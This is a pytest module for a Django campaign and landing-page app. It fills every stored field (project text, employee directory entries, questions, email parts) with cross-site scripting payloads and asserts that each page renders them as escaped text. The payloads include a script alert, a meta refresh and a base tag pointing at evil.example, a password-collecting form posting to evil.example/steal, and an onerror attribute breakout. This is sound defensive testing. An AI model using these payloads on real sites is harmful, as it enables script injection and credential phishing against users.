"""Threat: stored text becomes markup in someone's browser.

Everything people type, and everything in an HR export, is attacker-controlled: project and
asset fields, audience names, directory fields, questions and answers. Each is filled with
payloads that would run script, redirect (meta refresh), rebase every link (base) or phish
(a form), and every page that shows it — the app, the landing page on both links, the team's
preview, the email preview with its plain-text part, the question inbox and the admin — must
show it as text. Rich text is sanitised on the way in and on the way out.
"""

import datetime

import pytest
from django.contrib.auth.models import Permission
from django.utils import timezone

from audiences.models import Audience, Employee
from campaigns.landing import services as landing
from campaigns.models import Asset, MeetingSession, Question
from campaigns.plan import services as plan
from campaigns.projects import services as projects
from campaigns.tests.landing_helpers import clean_cache  # noqa: F401

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("clean_cache")]

SCRIPT = "<script>alert(1)</script>"
REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
BASE = '<base href="https://evil.example/">'
FORM = '<form action="https://evil.example/steal"><input name="password"></form>'
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
PAYLOAD = SCRIPT + REFRESH + BASE + FORM + ATTRIBUTE
# What must never appear in a page as markup (escaped, they read as text).
RAW = ("<script>alert(1)", "<meta http-equiv", '<base href="https://evil', '<form action="https://evil', "<img src=x")


def assert_inert(html: str, where: str) -> None:
    found = [raw for raw in RAW if raw in html]
    assert not found, f"{where}: {found}"


@pytest.fixture
def hostile(owner, make_user):
    """A project whose every text field, and the directory behind it, carries the payloads."""
    project = projects.project_create(
        by=owner,
        name="Atlas" + ATTRIBUTE,
        lede="Ingress " + PAYLOAD,
        why="<p>Varför</p>" + PAYLOAD,
        what_changes="<p>Vad</p>" + PAYLOAD,
        how_it_affects_me="<p>Hur</p>" + PAYLOAD,
        sponsor_name="Sponsor " + ATTRIBUTE,
        sponsor_title="VD " + SCRIPT,
        go_live=timezone.localdate() + datetime.timedelta(days=40),
    )
    employee = Employee.objects.create(
        email="anna@example.se",
        first_name="Anna" + ATTRIBUTE,
        last_name="Berg" + SCRIPT,
        department="Ekonomi" + REFRESH,
        site="Luleå" + BASE,
        title="Controller" + FORM,
        extra={"Kostnadsställe" + SCRIPT: "42" + ATTRIBUTE},
        language="en",
    )
    audience = Audience.objects.create(
        project=project, name="Ekonomi" + ATTRIBUTE, description=SCRIPT, kind=Audience.Kind.LIST
    )
    audience.members.add(employee)
    common = {"project": project, "by": owner, "audiences": [audience], "offset_days": -14}
    email = plan.asset_create(
        channel="email",
        stage="awareness",
        title="Mejl" + ATTRIBUTE,
        subject="Ämne " + SCRIPT,
        preheader="Före " + REFRESH,
        headline="Rubrik " + FORM,
        button_label="Knapp " + ATTRIBUTE,
        body="<p>Hej {{ first_name }}</p>" + PAYLOAD,
        **common,
    )
    meeting = plan.asset_create(
        channel="meeting", stage="knowledge", title="Träff" + ATTRIBUTE, headline="Träff " + SCRIPT, **common
    )
    start = timezone.now() + datetime.timedelta(days=5)
    MeetingSession.objects.create(
        meeting=meeting,
        starts_at=start,
        ends_at=start + datetime.timedelta(hours=1),
        site="Sal" + SCRIPT,
        place="Plats" + ATTRIBUTE,
        capacity=10,
    )
    plan.asset_create(
        channel="news", stage="awareness", title="Nyhet" + ATTRIBUTE, is_milestone=True, body=PAYLOAD, **common
    )
    poster = plan.asset_create(channel="poster", stage="awareness", title="Affisch" + ATTRIBUTE, **common)
    Asset.objects.filter(project=project).update(status=Asset.Status.APPROVED)  # all of it reaches employees
    question = landing.question_ask(project=project, text="Fråga " + PAYLOAD, name="Namn" + ATTRIBUTE)
    landing.question_answer(question=question, answer="<p>Svar</p>" + PAYLOAD, publish=True, by=owner)
    landing.question_ask(project=project, text="Obesvarad " + PAYLOAD, employee=employee)
    link = landing.landing_token_for(project=project, employee=employee)
    return {
        "project": project,
        "employee": employee,
        "audience": audience,
        "email": email,
        "meeting": meeting,
        "poster": poster,
        "link": link,
        "question": Question.objects.filter(project=project).first(),
    }


def test_the_landing_page_shows_stored_text_as_text_on_every_link(client, hostile):
    project, link = hostile["project"], hostile["link"]
    pages = {
        "general": client.get(f"/l/{project.slug}/"),
        "personal": client.get(f"/p/{link.token}/"),
        "personal, cached": client.get(f"/p/{link.token}/"),
    }
    for where, response in pages.items():
        html = response.content.decode()
        assert response.status_code == 200
        assert "Fråga" in html and "Träff" in html and "Nyhet" in html, where  # the text is there …
        assert_inert(html, where)  # … as text


def test_the_app_shows_stored_text_as_text_on_every_page(client, owner, hostile, english):
    slug = hostile["project"].slug
    email, meeting, poster = hostile["email"], hostile["meeting"], hostile["poster"]
    owner.user_permissions.add(*Permission.objects.filter(codename__in=["view_employee", "change_employee"]))
    client.force_login(owner)
    paths = [
        "/projects/",
        f"/projects/{slug}/",
        f"/projects/{slug}/edit/",
        f"/projects/{slug}/team/",
        f"/projects/{slug}/dashboard/",
        f"/projects/{slug}/plan/",
        f"/projects/{slug}/print/",
        f"/projects/{slug}/print/{poster.pk}/",
        f"/projects/{slug}/assets/{email.pk}/",
        f"/projects/{slug}/assets/{email.pk}/edit/",
        f"/projects/{slug}/assets/{email.pk}/send/",
        f"/projects/{slug}/assets/{email.pk}/preview/",
        f"/projects/{slug}/assets/{meeting.pk}/",
        f"/projects/{slug}/assets/{meeting.pk}/edit/",
        f"/projects/{slug}/assets/{meeting.pk}/preview/",
        f"/projects/{slug}/audiences/",
        f"/projects/{slug}/audiences/{hostile['audience'].pk}/",
        f"/projects/{slug}/questions/",
        f"/projects/{slug}/landing-preview/",
        f"/projects/{slug}/landing-preview/?audience={hostile['audience'].pk}",
        "/directory/",
        f"/directory/{hostile['employee'].pk}/",
    ]
    for path in paths:
        response = client.get(path)
        assert response.status_code == 200, path
        assert_inert(response.content.decode(), path)


def test_the_email_preview_shows_the_plain_text_part_as_text(client, owner, hostile):
    client.force_login(owner)
    email = hostile["email"]
    html = client.get(f"/projects/{hostile['project'].slug}/assets/{email.pk}/preview/").content.decode()
    text_part = html.split('<pre class="email-text">', 1)[1].split("</pre>", 1)[0]
    assert "Rubrik &lt;form" in text_part  # the headline, as the plain-text email has it, escaped here
    assert_inert(text_part, "text part")


def test_the_admin_shows_stored_text_as_text(client, hostile, make_user):
    admin = make_user("root")
    admin.is_staff = admin.is_superuser = True
    admin.save()
    client.force_login(admin)
    for model in ("campaigns/changeproject", "campaigns/asset", "campaigns/question", "audiences/employee"):
        response = client.get(f"/admin/{model}/")
        assert response.status_code == 200, model
        assert_inert(response.content.decode(), model)
    for path in (
        f"/admin/campaigns/asset/{hostile['email'].pk}/change/",
        f"/admin/campaigns/question/{hostile['question'].pk}/change/",
        f"/admin/audiences/employee/{hostile['employee'].pk}/change/",
    ):
        response = client.get(path)
        assert response.status_code == 200, path
        assert_inert(response.content.decode(), path)


def test_the_cached_page_replaces_only_its_own_slots(client, project, owner):
    """Text that users wrote is never taken for one of the page's stand-ins, old or current."""
    from campaigns.landing import views

    planted = f"lp0token0mark0 lp0csrf0mark0 lp0name0mark0 lp0pulsenote0 {views.MARK[:6]}"
    question = landing.question_ask(project=project, text=planted)
    landing.question_answer(question=question, answer="<p>Svar</p>", publish=True, by=owner)
    employee = Employee.objects.create(email="b@example.se", first_name="Bo", language="en")
    link = landing.landing_token_for(project=project, employee=employee)

    html = client.get(f"/p/{link.token}/").content.decode()

    assert planted in html  # shown as written
    assert views.MARK not in html


def test_the_manager_cascade_shows_stored_text_as_text(client, owner, hostile, english):
    """The team talk's words, the managers' names and departments: on the manager's page (with the
    skip-level list), the briefing email, the asset's late list and the dashboard's cascade."""
    from campaigns.analytics import services as analytics
    from campaigns.cascade.selectors import team_lists
    from campaigns.cascade.services import team_talk_confirm, team_talks_create
    from campaigns.delivery.composer import Composer
    from campaigns.delivery.emails import Briefing
    from campaigns.delivery.services import _Tracker
    from campaigns.models import Delivery, TeamTalk

    project, anna, audience = hostile["project"], hostile["employee"], hostile["audience"]
    boss = Employee.objects.create(
        email="boss@example.se", first_name="Chef" + ATTRIBUTE, last_name=SCRIPT, department="Avd" + FORM, language="en"
    )
    director = Employee.objects.create(email="dir@example.se", first_name="Dir" + SCRIPT, department=REFRESH)
    Employee.objects.filter(pk=anna.pk).update(manager_employee=boss)
    Employee.objects.filter(pk=boss.pk).update(manager_employee=director)
    audience.members.add(boss)
    talk_asset = plan.asset_create(
        project=project,
        by=owner,
        audiences=[audience],
        channel="team_talk",
        stage="desire",
        title="Samtal" + ATTRIBUTE,
        subject="Ämne " + SCRIPT,
        headline="Rubrik " + FORM,
        body="<p>Punkter</p>" + PAYLOAD,
        offset_days=-400,
        talk_by_days=-390,  # long past: the late list shows
    )
    Asset.objects.filter(pk=talk_asset.pk).update(status=Asset.Status.DONE)
    for person in (boss, director):
        Delivery.objects.create(asset=talk_asset, employee=person, message_id=f"<{person.pk}@example.se>")
    team_talks_create(asset=talk_asset)
    team_talk_confirm(
        talk=TeamTalk.objects.get(manager=director), held_on=timezone.localdate(), attendees=1, questions=[PAYLOAD]
    )
    analytics.analytics_refresh(project=project)

    for who in (boss, director):
        response = client.get(f"/tt/{TeamTalk.objects.get(manager=who).token}/")
        assert response.status_code == 200
        assert "Punkter" in response.content.decode()
        assert_inert(response.content.decode(), f"team talk page of {who.email}")
    talk_asset.refresh_from_db()
    delivery = Delivery.objects.select_related("employee").get(asset=talk_asset, employee=boss)
    talk_asset.project.tracking_mode = "individual"  # the team list names people: their names as text
    teams = team_lists(asset=talk_asset, manager_ids=[boss.pk])
    assert teams[boss.pk].people
    briefing = Briefing(team=teams[boss.pk], confirm_url="https://launchpad.example/tt/x/")
    message = Composer(talk_asset, _Tracker(talk_asset), briefings={boss.pk: briefing}).message(delivery)
    html = message.alternatives[0].content  # the email's own head has meta tags of its own: look for refresh
    assert (
        not [raw for raw in RAW if raw != "<meta http-equiv" and raw in html]
        and '<meta http-equiv="refresh"' not in html
    )
    client.force_login(owner)
    for path in (
        f"/projects/{project.slug}/assets/{talk_asset.pk}/",
        f"/projects/{project.slug}/assets/{talk_asset.pk}/preview/",
        f"/projects/{project.slug}/dashboard/",
        f"/projects/{project.slug}/questions/",
    ):
        response = client.get(path)
        assert response.status_code == 200, path
        assert_inert(response.content.decode(), path)
    assert 'id="late-list"' in client.get(f"/projects/{project.slug}/assets/{talk_asset.pk}/").content.decode()
